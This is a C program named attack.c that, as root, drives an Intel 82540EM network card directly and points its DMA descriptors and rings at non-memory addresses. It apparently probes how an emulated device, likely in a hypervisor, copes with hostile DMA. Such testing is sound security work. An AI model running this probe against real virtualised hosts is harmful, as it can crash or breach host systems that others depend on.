/* SPDX-License-Identifier: MIT */
/*
 * attack.c: what a root user can do to an 82540EM without a driver: addresses
 * that are not its memory into the card's rings, by its registers.
 *
 *   attack BDF LIMIT SECONDS
 *
 * The card at BDF must have no driver.  LIMIT is where memory ends.  For so
 * many seconds it sends from, and receives into, what is not memory; the last
 * line says how often.  Sections in brackets are of the manual 317453.
 */

#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#define PAGE 4096u
#define COUNT 8u /* descriptors of a ring */

enum { /* registers, [13.4] */
       CTRL = 0x0000,
       ICR = 0x00c0,
       IMC = 0x00d8,
       RCTL = 0x0100,
       TCTL = 0x0400,
       RX = 0x2800, /* base low, high, length; + 0x10 head, + 0x18 tail */
       TX = 0x3800,
       RAL = 0x5400,
       RAH = 0x5404,
};

/* What there is at a place where no memory of ours is. */
static uint64_t bad[] = {
	0, /* the limit */
	0, /* the last 32 bytes before it */
	UINT64_C(0x01000000) + (UINT64_C(1) << 30),
	UINT64_C(0xfebf0000), /* cards */
	UINT64_C(0xfee00000), /* interrupts */
	UINT64_C(0xffffffe0), /* beyond 32 bits, in the middle */
	UINT64_C(0x100000000),
	UINT64_C(0x7ff0000000),
	UINT64_C(0xffffffffffffffe0), /* beyond 64 */
};
#define BAD (sizeof(bad) / sizeof(bad[0]))

struct descriptor { /* [3.2.3, 3.3.3] */
	volatile uint64_t address;
	volatile uint64_t rest;
};

#define TX_REST(len) ((uint64_t)(len) | UINT64_C(0x0b000000)) /* EOP FCS RS */
#define TX_DATA(len) ((uint64_t)(len) | UINT64_C(0x2f100000)) /* TSE DEXT */
#define DONE (UINT64_C(1) << 32)

static volatile uint8_t *regs;
static struct descriptor *tx, *rx;
static uint8_t *frame;
static uint64_t tx_at, rx_at, frame_at;
static unsigned long tries, answered;

static void out(unsigned int at, uint32_t value)
{
	*(volatile uint32_t *)(regs + at) = value;
}

static uint32_t in(unsigned int at)
{
	return *(volatile uint32_t *)(regs + at);
}

static void die(const char *what)
{
	perror(what);
	exit(1);
}

/* A page of ours that stays where it is, and where that is. */
static void *page(uint64_t *physical)
{
	void *at = mmap(NULL, PAGE, PROT_READ | PROT_WRITE,
			MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED, -1, 0);
	int fd = open("/proc/self/pagemap", O_RDONLY);
	uint64_t entry;

	if (at == MAP_FAILED || fd < 0)
		die("no page");
	memset(at, 0, PAGE);
	if (pread(fd, &entry, 8, (off_t)((uintptr_t)at / PAGE * 8)) != 8 ||
	    !(entry >> 63) || !(entry << 9))
		die("no physical address of a page");
	close(fd);
	*physical = (entry & ((UINT64_C(1) << 55) - 1)) * PAGE;
	return at;
}

static void take_card(const char *bdf)
{
	char path[128];
	uint16_t command;
	int fd;

	snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/enable", bdf);
	fd = open(path, O_WRONLY);
	if (fd < 0 || write(fd, "1", 1) != 1)
		die(path);
	close(fd);
	snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/config", bdf);
	fd = open(path, O_RDWR);
	if (fd < 0 || pread(fd, &command, 2, 4) != 2)
		die(path);
	command |= 7; /* I/O, memory, bus mastering */
	if (pwrite(fd, &command, 2, 4) != 2)
		die(path);
	close(fd);
	snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/resource0", bdf);
	fd = open(path, O_RDWR);
	regs = mmap(NULL, 0x20000, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (fd < 0 || regs == MAP_FAILED)
		die(path);
	close(fd);
}

static void ring(unsigned int at, uint64_t base)
{
	out(at + 0x00, (uint32_t)base);
	out(at + 0x04, (uint32_t)(base >> 32));
	out(at + 0x08, COUNT * 16);
	out(at + 0x10, 0);
	out(at + 0x18, 0);
}

static void restart(uint64_t tx_base, uint64_t rx_base)
{
	out(TCTL, 0);
	out(RCTL, 0);
	out(CTRL, in(CTRL) | 1u << 26); /* reset */
	usleep(1000);
	out(IMC, 0xffffffff);
	out(CTRL, in(CTRL) | 1u << 6); /* link up */
	memset(tx, 0, PAGE);
	memset(rx, 0, PAGE);
	ring(TX, tx_base);
	ring(RX, rx_base);
}

static void post(unsigned int i, uint64_t address, uint64_t rest)
{
	tx[i].address = address;
	tx[i].rest = rest;
	__sync_synchronize();
}

/* Descriptors up to (tail) are given; some cards say that they are done. */
static void ring_doorbell(unsigned int tail)
{
	unsigned int i;

	tries++;
	out(TX + 0x18, tail);
	for (i = 0; i < 100; i++) {
		if (tx[tail - 1].rest & DONE) {
			answered++;
			return;
		}
		usleep(100);
	}
}

/* Buffers that are not memory, as whole frames and as parts of one. */
static void send_from(uint64_t address)
{
	restart(tx_at, rx_at);
	out(TCTL, 0x400fa);
	post(0, address, TX_REST(64));
	ring_doorbell(1);
	post(1, frame_at, (uint64_t)64 | UINT64_C(0x0a000000)); /* no end */
	post(2, address, TX_REST(1000));
	ring_doorbell(3);
	/* a context for segments, and their data */
	post(3, UINT64_C(0x000032220021180e), UINT64_C(0x05b436002700ffca));
	post(4, address, TX_DATA(1 << 16));
	ring_doorbell(5);
	(void)in(ICR);
}

/* Who has 10.0.2.2?  So that there is something to receive. */
static void ask(void)
{
	static const uint8_t arp[] = { 8, 6, 0, 1, 8, 0, 6, 4, 0, 1 };
	uint32_t low = in(RAL), high = in(RAH);
	uint8_t mac[6];

	memcpy(mac, &low, 4);
	memcpy(mac + 4, &high, 2);
	memset(frame, 0, 64);
	memset(frame, 0xff, 6);
	memcpy(frame + 6, mac, 6);
	memcpy(frame + 12, arp, sizeof(arp));
	memcpy(frame + 22, mac, 6);
	memcpy(frame + 28, "\x0a\x00\x02\x63", 4);
	memcpy(frame + 38, "\x0a\x00\x02\x02", 4);
	post(0, frame_at, TX_REST(60));
}

/* What was right when the doorbell rang, and what it then becomes. */
static void rewrite_behind(uint64_t address)
{
	unsigned int i;

	restart(tx_at, rx_at);
	out(TCTL, 0x400fa);
	ask();
	for (i = 0; i < COUNT - 1; i++)
		post(i, frame_at, TX_REST(60));
	tries++;
	out(TX + 0x18, COUNT - 1);
	for (i = 0; i < COUNT - 1; i++)
		tx[i].address = address;
	usleep(1000);
}

/* The rings themselves are not memory. */
static void rings_at(uint64_t address)
{
	restart(address, address);
	out(TCTL, 0x400fa);
	tries++;
	out(TX + 0x18, 1);
	out(RCTL, 0x801a); /* EN, promiscuous, broadcast */
	out(RX + 0x18, COUNT - 1);
	usleep(1000);
	out(RCTL, 0);
}

static void receive_into(uint64_t address)
{
	unsigned int i;

	restart(tx_at, rx_at);
	for (i = 0; i < COUNT; i++)
		rx[i].address = address;
	out(RCTL, 0x801a);
	out(RX + 0x18, COUNT - 1);
	out(TCTL, 0x400fa);
	ask();
	ring_doorbell(1);
	usleep(50000);
	out(RCTL, 0);
}

int main(int argc, char **argv)
{
	time_t end;
	size_t i;

	if (argc != 4)
		return 2;
	bad[0] = strtoull(argv[2], NULL, 0);
	bad[1] = bad[0] - 32;
	tx = page(&tx_at);
	rx = page(&rx_at);
	frame = page(&frame_at);
	take_card(argv[1]);
	end = time(NULL) + atoi(argv[3]);
	do {
		for (i = 0; i < BAD; i++) {
			send_from(bad[i]);
			rewrite_behind(bad[i]);
			rings_at(bad[i]);
			receive_into(bad[i]);
		}
	} while (time(NULL) < end);
	restart(tx_at, rx_at);
	out(IMC, 0xffffffff);
	printf("attack: %lu tries, %lu were answered\n", tries, answered);
	return 0;
}
